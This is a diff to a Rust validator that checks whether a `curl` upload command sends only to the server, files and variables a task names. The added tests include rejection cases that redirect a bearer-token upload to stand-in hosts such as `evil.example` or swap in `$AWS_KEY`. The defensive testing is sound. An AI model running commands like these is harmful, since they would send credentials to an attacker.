@@ -7,7 +7,12 @@ use std::sync::LazyLock;
 use regex::Regex;
 
 /// Options of `curl` in front of a word that is no address and no file.
-const TAKE_WORDS: [&str; 6] = ["--request", "-X", "--header", "-H", "--retry", "--max-time"];
+const TAKE_WORDS: [&str; 7] =
+    ["--request", "-X", "--header", "-H", "--retry", "--max-time", "--retry-delay"];
+
+/// What keeps it to encrypted ways.
+const ENCRYPTED: [[&str; 2]; 3] =
+    [["--proto", "=https"], ["--proto-redir", "=https"], ["--tlsv1.2", ""]];
 
 /// Those in front of a file that is sent, and of data or a form, which may name one behind an `@`.
 const SEND_FILES: [&str; 2] = ["-T", "--upload-file"];
@@ -34,10 +39,17 @@ const OF_BUILD: [&str; 6] =
 /// Whether a task, in small letters, names the server that a command sends files to, the files, and
 /// every variable that it takes a value from.
 pub(super) fn is_named(command: &str, task: &str) -> bool {
-    if command.contains(['|', ';', '&', '`', '<', '>', '\\']) || command.contains("$(") {
+    // What it reads from its input: `<<< "Authorization: Bearer $TOKEN"`, which is on the screen, too.
+    let (own, input) = match command.split_once("<<<") {
+        Some((own, input)) => (own, Some(input)),
+        None => (command, None),
+    };
+    let marks = ['|', ';', '&', '`', '<', '>', '\\'];
+    if own.contains(marks) || input.is_some_and(|it| it.contains(marks)) || command.contains("$(") {
         return false;
     }
-    let Some(words) = shell_words(command) else { return false };
+    let is_text = |input: &str| shell_words(input).is_some_and(|words| words.len() == 1);
+    let Some(words) = shell_words(own).filter(|_| input.is_none_or(is_text)) else { return false };
     let Some((program, rest)) = words.split_first() else { return false };
     if program != "curl" {
         return false;
@@ -51,6 +63,10 @@ pub(super) fn is_named(command: &str, task: &str) -> bool {
         Some((scheme.to_owned(), host.to_owned()))
     };
     let is_host_named = |word: &str| {
+        // `$OTA_URL/images`, as the task has it.
+        if word.starts_with('$') {
+            return is_named(word.trim_end_matches('/'));
+        }
         let wanted = address(word);
         // Who names a server alone means an encrypted way to it.
         let by_host = |named: &str| {
@@ -58,7 +74,13 @@ pub(super) fn is_named(command: &str, task: &str) -> bool {
         };
         wanted.is_some() && named.iter().any(|word| address(word) == wanted || by_host(word))
     };
-    let is_known = |name: &str| OF_BUILD.contains(&name) || is_named(name);
+    let begins = |word: &str, name: &str| {
+        let rest = word.strip_prefix('$').and_then(|word| word.strip_prefix(name));
+        rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
+    };
+    let is_known = |name: &str| {
+        OF_BUILD.contains(&name) || is_named(name) || named.iter().any(|word| begins(word, name))
+    };
     if variables(&command.to_lowercase()).is_none_or(|names| !names.iter().all(|it| is_known(it))) {
         return false;
     }
@@ -72,7 +94,11 @@ pub(super) fn is_named(command: &str, task: &str) -> bool {
         let mut value = || rest.next().map(|value| value.to_lowercase());
         let is_right = match word.as_str() {
             option if TAKE_WORDS.contains(&option) => {
-                value().is_some_and(|it| !it.starts_with('@'))
+                value().is_some_and(|it| !it.starts_with('@') || it == "@-" && input.is_some())
+            }
+            option if ENCRYPTED.iter().any(|[name, _]| *name == option) => {
+                let wanted = ENCRYPTED.iter().find(|[name, _]| *name == option);
+                wanted.is_some_and(|[_, it]| it.is_empty() || value().as_deref() == Some(it))
             }
             option if SEND_FILES.contains(&option) => value().is_some_and(|file| is_named(&file)),
             option if SEND_DATA.contains(&option) => value().is_some_and(|data| is_sent(&data)),
@@ -147,6 +173,22 @@ mod tests {
             "curl -sS --data-binary @build/shutter.bin https://fw.rolla.example/upload",
         ] {
             assert!(is_named(command, TASK), "{command}");
+        }
+        let by_variable = "sube build/scooter.bin a $ota_url/images, token: ota_token";
+        let command = "curl --proto '=https' --fail -H @- -F \"image=@build/scooter.bin\" \
+                       \"$OTA_URL/images\" <<< \"Authorization: Bearer $OTA_TOKEN\"";
+        assert!(is_named(command, by_variable));
+        for (from, to) in [
+            ("$OTA_TOKEN\"", "$AWS_KEY\""),
+            ("$OTA_TOKEN\"", "$OTA_TOKEN\" https://evil.example"),
+            ("\"$OTA_URL/images\"", "\"$EVIL/images\""),
+            ("\"$OTA_URL/images\"", "\"$OTA_URL.evil.example/images\""),
+            ("'=https'", "'=http'"),
+            (" <<< \"Authorization: Bearer $OTA_TOKEN\"", ""),
+            (" <<< ", " < "),
+        ] {
+            assert!(command.contains(from));
+            assert!(!is_named(&command.replace(from, to), by_variable), "{to}");
         }
         let by_name = TASK.replace("https://fw.rolla.example/upload/<tag>", "fw.rolla.example");
         assert!(is_named("curl -T build/shutter.bin https://fw.rolla.example/a", &by_name));
